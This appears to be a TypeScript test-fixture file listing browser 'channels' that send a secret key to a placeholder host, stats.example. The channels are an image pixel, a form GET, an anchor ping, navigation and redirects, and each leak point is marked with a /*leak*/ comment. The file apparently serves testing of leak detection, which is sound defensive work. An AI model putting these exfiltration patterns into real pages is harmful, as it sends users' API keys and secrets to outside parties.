import { type Channel, channel, here } from './channel.ts';

const stats = 'https://stats.example';

/** What elements of a page and the address of its tab send. */
export function elementChannels(key: string): Channel[] {
  return [...pictureChannels(key), ...formChannels(key), ...navigationChannels(key)];
}

function pictureChannels(key: string): Channel[] {
  const pixel = { url: `${stats}/pixel.gif?k=••••••••`, part: 'request.url', name: 'k', wire: `?k=${key}` } as const;
  const tag = `<img alt="" src="${stats}/pixel.gif?k=${key}" onload="done()" onerror="done()">`;
  return [
    channel('/image', {
      ...{ ...pixel, function: 'countVisit' },
      script: `function countVisit(key) {
  const pixel = new Image();
  pixel.onload = pixel.onerror = done;
  pixel.src /*leak*/= '${stats}/pixel.gif?k=' + key;
}

countVisit('${key}');
`,
    }),
    channel('/image-attribute', { ...pixel, body: tag, tag }),
  ];
}

function formChannels(key: string): Channel[] {
  const form = `<form action="${stats}/form" target="result"><input name="apiKey"></form><iframe name="result"></iframe>`;
  return [
    channel('/form-get', {
      ...{ url: `${stats}/form?apiKey=••••••••`, part: 'request.url', name: 'apiKey', wire: `?apiKey=${key}` },
      ...{ body: form },
      script: `function sendForm(key) {
  const form = document.querySelector('form');
  form.elements.apiKey.value = key;
  form.submit();
  done();
}

addEventListener('load', () => sendForm('${key}'));
`,
    }),
  ];
}

function navigationChannels(key: string): Channel[] {
  const landing = { url: `${stats}/landing?k=••••••••`, part: 'request.url', name: 'k', wire: `?k=${key}` } as const;
  return [
    channel('/ping', {
      ...{ method: 'POST', url: `${stats}/ping?k=••••••••`, part: 'request.url', name: 'k', wire: `?k=${key}` },
      function: 'goUp',
      body: `<a href="#top" ping="${stats}/ping?k=${key}">Top</a>`,
      script: `function goUp() {
  document.querySelector('a')./*leak*/click();
  done();
}

addEventListener('load', goUp);
`,
    }),
    channel('/navigation', {
      ...{ ...landing, function: 'leave' },
      script: `function leave(key) {
  location./*leak*/assign('${stats}/landing?k=' + key);
}

addEventListener('load', () => leave('${key}'));
`,
    }),
    channel('/redirect', {
      ...{ url: `${here}/go`, part: 'response.header', name: 'Location', wire: `?k=${key}` },
      ...{ beside: ['request.url'], function: 'go' },
      files: {
        '/go': { type: 'text/plain', body: '', status: 302, headers: { Location: `${stats}/landing?k=${key}` } },
      },
      script: `function go() {
  return /*leak*/fetch('/go');
}

go().finally(done);
`,
    }),
    channel('/redirected', {
      ...{ ...landing, beside: ['response.header'], function: 'go' },
      files: {
        '/went': { type: 'text/plain', body: '', status: 302, headers: { Location: `${stats}/landing?k=${key}` } },
      },
      script: `function go() {
  return /*leak*/fetch('/went');
}

go().finally(done);
`,
    }),
  ];
}
